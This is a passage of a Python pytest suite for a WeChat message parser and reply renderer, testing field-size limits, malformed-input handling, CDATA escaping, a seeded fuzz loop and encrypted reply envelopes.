    ids=["lat-word", "lat-nan", "lon-inf", "scale-word", "precision-missing", "precision-nested"],
)
def test_numeric_fields_that_do_not_parse_are_malformed_not_a_crash(
    fmt: BodyFormat, fields: dict[str, Any]
) -> None:
    with pytest.raises(MalformedBody, match=r"^(Location_\w|Scale|Precision) is not (a number|an integer)$"):
        parsed(fields, fmt)


def test_a_field_above_8_kib_is_refused_and_not_quoted(fmt: BodyFormat) -> None:
    assert isinstance(parsed(push("text", Content="x" * 8192), fmt), TextMessage)
    with pytest.raises(MalformedBody, match="'Content' is larger than 8 KiB") as caught:
        parsed(push("text", Content="x" * 8193), fmt)
    assert "xxxx" not in str(caught.value)


def test_the_8_kib_limit_counts_utf_8_bytes(fmt: BodyFormat) -> None:
    assert isinstance(parsed(push("text", Content="中" * 2730), fmt), TextMessage)  # 8190 bytes
    with pytest.raises(MalformedBody, match="larger than 8 KiB"):
        parsed(push("text", Content="中" * 2731), fmt)  # 8193 bytes


def test_the_8_kib_limit_applies_inside_nested_structures_too(fmt: BodyFormat) -> None:
    with pytest.raises(MalformedBody, match="'ScanResult' is larger than 8 KiB"):
        parsed(event("scancode_push", ScanCodeInfo={"ScanType": "qrcode", "ScanResult": "x" * 9000}), fmt)


def test_an_oversized_field_with_a_strange_name_is_not_named() -> None:
    with pytest.raises(MalformedBody) as caught:
        parsed({**push("text", Content="x"), "<evil name>": "x" * 9000}, BodyFormat.JSON)
    assert str(caught.value) == "a field is larger than 8 KiB"


FUZZ_SEEDS = [
    xml_body(event("subscribe_msg_popup_event", SubscribeMsgPopupEvent={"List": POPUP_ITEMS})),
    xml_body(push("location", Location_X="23.1", Location_Y="113.2", Scale="20", Label="x", MsgId=1)),
    json_body(event("subscribe_msg_sent_event", List=[{"TemplateId": "T", "MsgID": 123, "ErrorCode": 0}])),
    json_body(event("LOCATION", Latitude=23.1, Longitude=1.5e3, Precision=True)),
]
FUZZ_TOKENS = [
    b"<!DOCTYPE x>",
    b"<!ENTITY a 'b'>",
    b"&a;",
    b"<?pi?>",
    b"]]>",
    b"<a>",
    b"</a>",
    b"[",
    b"{",
    b'"',
    b"\\ud800",
]


def test_no_mutation_of_a_valid_body_escapes_as_anything_but_malformed_body() -> None:
    rnd = random.Random(20240426)
    for _ in range(3000):
        body = bytearray(rnd.choice(FUZZ_SEEDS))
        for _ in range(rnd.randint(1, 4)):
            at = rnd.randrange(len(body))
            match rnd.randrange(4):
                case 0:
                    body[at] = rnd.randrange(256)
                case 1:
                    body[at:at] = rnd.choice(FUZZ_TOKENS)
                case 2:
                    del body[at : at + rnd.randint(1, 8)]
                case _:
                    body[at:at] = body[at : at + rnd.randint(1, 64)]
        try:
            document = parse_document(bytes(body))[1]
            read_envelope(document)
            parse_message(document)
        except MalformedBody:
            pass


def test_malformed_body_reasons_never_quote_the_body() -> None:
    for body in (b"<xml><Content>secret-123</Content>", b'{"Content": "secret-123", }', b"secret-123"):
        with pytest.raises(MalformedBody) as caught:
            parse_document(body)
        assert "secret" not in str(caught.value)


# --- replies ------------------------------------------------------------------------------------------------

HEADER = {"ToUserName": OPENID, "FromUserName": OA, "CreateTime": "1713424427"}


def rendered_xml(reply: Reply) -> dict[str, Any]:
    body = render_reply(reply, openid=OPENID, account_id=OA, create_time=1713424427, fmt=BodyFormat.XML)
    return xmltodict.parse(body)["xml"]


@pytest.mark.parametrize(
    ("reply", "expected"),
    [
        (TextReply("你好"), {"MsgType": "text", "Content": "你好"}),
        (ImageReply("media-1"), {"MsgType": "image", "Image": {"MediaId": "media-1"}}),
        (VoiceReply("media-2"), {"MsgType": "voice", "Voice": {"MediaId": "media-2"}}),
        (VideoReply("media-3"), {"MsgType": "video", "Video": {"MediaId": "media-3"}}),
        (
            VideoReply("media-3", title="t", description="d"),
            {"MsgType": "video", "Video": {"MediaId": "media-3", "Title": "t", "Description": "d"}},
        ),
        (
            MusicReply("thumb", title="t", description="d", music_url="http://m", hq_music_url="http://hq"),
            {
                "MsgType": "music",
                "Music": {
                    "Title": "t",
                    "Description": "d",
                    "MusicUrl": "http://m",
                    "HQMusicUrl": "http://hq",
                    "ThumbMediaId": "thumb",
                },
            },
        ),
        (
            NewsReply(
                (Article("t1", "d1", "http://p1", "http://u1"), Article("t2", "d2", "http://p2", "http://u2"))
            ),
            {
                "MsgType": "news",
                "ArticleCount": "2",
                "Articles": {
                    "item": [
                        {"Title": "t1", "Description": "d1", "PicUrl": "http://p1", "Url": "http://u1"},
                        {"Title": "t2", "Description": "d2", "PicUrl": "http://p2", "Url": "http://u2"},
                    ]
                },
            },
        ),
        (TransferCustomerService(), {"MsgType": "transfer_customer_service"}),
        (
            TransferCustomerService("test1@test"),
            {"MsgType": "transfer_customer_service", "TransInfo": {"KfAccount": "test1@test"}},
        ),
    ],
    ids=lambda value: "xml" if isinstance(value, dict) else type(value).__name__,
)
def test_each_reply_renders_to_the_xml_wechat_expects(reply: Reply, expected: dict[str, Any]) -> None:
    assert rendered_xml(reply) == {**HEADER, **expected}


def test_reply_xml_uses_cdata_for_text_and_a_bare_create_time() -> None:
    body = render_reply(
        TextReply("a < b & c"), openid="o1", account_id="gh_1", create_time=5, fmt=BodyFormat.XML
    )
    assert body == (
        b"<xml><ToUserName><![CDATA[o1]]></ToUserName><FromUserName><![CDATA[gh_1]]></FromUserName>"
        b"<CreateTime>5</CreateTime><MsgType><![CDATA[text]]></MsgType>"
        b"<Content><![CDATA[a < b & c]]></Content></xml>"
    )


@pytest.mark.parametrize("content", ["]]>", "a]]>b", "]]>]]>", "x]]]>y", "<![CDATA[inner]]>", "]]"])
def test_cdata_terminators_in_content_survive(content: str) -> None:
    assert rendered_xml(TextReply(content))["Content"] == content


def test_characters_xml_cannot_carry_are_dropped_from_replies() -> None:
    assert rendered_xml(TextReply("a\x00b\x1fc\ud800d\ufffe")) == {
        **HEADER,
        "MsgType": "text",
        "Content": "abcd",
    }


def test_our_own_parser_reads_our_replies_back() -> None:
    body = render_reply(
        TextReply("回复 ]]> ok"), openid=OPENID, account_id=OA, create_time=AT, fmt=BodyFormat.XML
    )
    message = parse_message(parse_document(body)[1])
    assert message == TextMessage(
        to_user=OPENID, openid=OA, create_time=AT, msg_type="text", content="回复 ]]> ok"
    )


def test_transfer_to_customer_service_in_json_mode() -> None:
    body = render_reply(
        TransferCustomerService(),
        openid="o-u",
        account_id="gh_x",
        create_time=1713424427,
        fmt=BodyFormat.JSON,
    )
    assert body == (
        b'{"ToUserName":"o-u","FromUserName":"gh_x","CreateTime":1713424427,'
        b'"MsgType":"transfer_customer_service"}'
    )


def test_json_replies_mirror_the_xml_with_pascal_case_keys() -> None:
    def render(reply: Reply) -> bytes:
        return render_reply(reply, openid="o-u", account_id="gh_x", create_time=7, fmt=BodyFormat.JSON)

    assert json.loads(render(TextReply("你好 ]]>"))) == {
        "ToUserName": "o-u",
        "FromUserName": "gh_x",
        "CreateTime": 7,
        "MsgType": "text",
        "Content": "你好 ]]>",
    }
    news = json.loads(render(NewsReply((Article("t", url="http://u"),))))
    assert news["ArticleCount"] == 1
    assert news["Articles"] == [{"Title": "t", "Description": "", "PicUrl": "", "Url": "http://u"}]
    kf = json.loads(render(TransferCustomerService("kf@x")))
    assert kf["TransInfo"] == {"KfAccount": "kf@x"}


@pytest.mark.parametrize("count", [0, 9])
def test_news_carries_one_to_eight_articles(count: int) -> None:
    with pytest.raises(ValueError, match="1 to 8"):
        NewsReply(tuple(Article(f"t{i}") for i in range(count)))


def test_success_is_the_plain_acknowledgement() -> None:
    assert SUCCESS == b"success"


# --- encrypted reply envelopes ------------------------------------------------------------------------------

ENVELOPE = crypto.Envelope(
    encrypt="ELGduP2YcVatjqIS+eZbp80MNLoAUWvzzyJxgGzxZO/5sAvd070Bs6qrLARC9nVHm48Y4hyRbtzve1L32tmxSQ==",
    msg_signature="1b9339964ed2e271e7c7b6ff2b0ef902fc94dea1",
    timestamp="1713424427",
    nonce="415670741",
)


def test_xml_envelope_is_exactly_the_documented_shape() -> None:
    assert render_envelope(ENVELOPE, BodyFormat.XML) == (
        b"<xml><Encrypt><![CDATA[ELGduP2YcVatjqIS+eZbp80MNLoAUWvzzyJxgGzxZO/5sAvd070Bs6qrLARC9nVHm48Y4hyRbtzve1L32tmxSQ=="
        b"]]></Encrypt><MsgSignature><![CDATA[1b9339964ed2e271e7c7b6ff2b0ef902fc94dea1]]></MsgSignature>"
        b"<TimeStamp>1713424427</TimeStamp><Nonce><![CDATA[415670741]]></Nonce></xml>"
    )


def test_json_envelope_has_an_integer_timestamp_and_a_string_nonce() -> None:
    sent = json.loads(render_envelope(ENVELOPE, BodyFormat.JSON))
    assert sent == {
        "Encrypt": ENVELOPE.encrypt,
        "MsgSignature": "1b9339964ed2e271e7c7b6ff2b0ef902fc94dea1",
        "TimeStamp": 1713424427,
        "Nonce": "415670741",
    }
    assert type(sent["TimeStamp"]) is int


def test_envelope_timestamp_must_be_digits() -> None:
    with pytest.raises(ValueError, match="timestamp"):
        render_envelope(dataclasses.replace(ENVELOPE, timestamp="soon"), BodyFormat.JSON)


def test_an_encrypted_reply_opens_to_the_rendered_reply() -> None:
    box = crypto.MessageCrypto("AAAAA", "wxba5fad812f8e6fb9", "A" * 43)
    reply = render_reply(TextReply("hi"), openid=OPENID, account_id=OA, create_time=AT, fmt=BodyFormat.XML)
    envelope = box.encrypt(reply, str(AT), "415670741")
    fmt, document = parse_document(render_envelope(envelope, BodyFormat.XML))
    assert fmt is BodyFormat.XML
    opened = box.verify_and_decrypt(
        document["Encrypt"], document["MsgSignature"], document["TimeStamp"], document["Nonce"]
    )
    assert opened.plaintext == reply


# --- each field limit at its edge, and the reason a refusal gives -------------------------------------------------


def refusal_of(fields: dict[str, Any], fmt: BodyFormat = BodyFormat.JSON) -> str:
    with pytest.raises(MalformedBody) as caught:
        parsed(fields, fmt)
    return str(caught.value)


def test_an_openid_longer_than_64_is_too_long_and_a_malformed_one_is_not_an_openid() -> None:
    assert (
        refusal_of(dict(push("text", Content="x", MsgId=1), FromUserName="o" * 65))
        == "FromUserName is too long"
    )
    assert (
        refusal_of(dict(push("text", Content="x", MsgId=1), FromUserName="o!"))
        == "FromUserName is not an openid"
    )
    assert (
        parsed(dict(push("text", Content="x", MsgId=1), FromUserName="o" * 64), BodyFormat.JSON).openid
        == "o" * 64
    )


def test_a_common_field_that_is_an_object_is_not_a_string() -> None:
    assert refusal_of(dict(push("text", Content="x", MsgId=1), FromUserName={"a": "b"})) == (
        "FromUserName is missing or not a string"
    )


def test_a_text_field_that_is_an_object_is_refused_naming_it() -> None:
    assert refusal_of(push("text", Content={"a": "b"}, MsgId=1)) == "Content must be a string"


def test_an_event_name_may_be_128_characters_and_no_more() -> None:
    assert parsed(event("E" * 128), BodyFormat.JSON).event == "E" * 128
    assert refusal_of(event("E" * 129)) == "Event is too long"


def test_a_number_may_be_written_in_32_characters_and_no_more() -> None:
    fields = push("location", Location_X="1." + "0" * 30, Location_Y="2", Scale="15", Label="x", MsgId=1)
    assert parsed(fields, BodyFormat.JSON).latitude == 1.0
    assert refusal_of({**fields, "Location_X": "1." + "0" * 31}) == "Location_X is not a number"


def test_a_repeated_field_larger_than_8_kib_is_refused_like_a_single_one() -> None:
    body = f"<xml>{xml_body(push('text', Content='x', MsgId=1))[5:-6].decode()}<Extra>a</Extra><Extra>{'x' * 9000}</Extra></xml>"
    with pytest.raises(MalformedBody) as caught:
        parse_message(parse_document(body.encode())[1])
    assert str(caught.value) == "'Extra' is larger than 8 KiB"


def test_subscribe_message_list_entries_are_objects_with_a_template_of_at_most_128_characters() -> None:
    def popup(entry: Any) -> dict[str, Any]:
        return event("subscribe_msg_popup_event", List=[entry])

    assert refusal_of(popup("T")) == "List entries must be objects"
    accepted = parsed(popup({"TemplateId": "T" * 128, "SubscribeStatusString": "accept"}), BodyFormat.JSON)
    assert accepted.items[0].template_id == "T" * 128
    assert refusal_of(popup({"TemplateId": "T" * 129})) == "TemplateId is too long"


def test_a_delivery_key_tail_of_256_bytes_stays_readable_and_one_more_is_digested() -> None:
    key = "k" * (256 - len("VIEW#"))
    assert delivery_key(parsed(event("VIEW", EventKey=key), BodyFormat.XML)).endswith(f"#VIEW#{key}")
    longer = delivery_key(parsed(event("VIEW", EventKey=key + "k"), BodyFormat.XML))
    assert longer.startswith(f"{OPENID}#{AT}#sha256:")
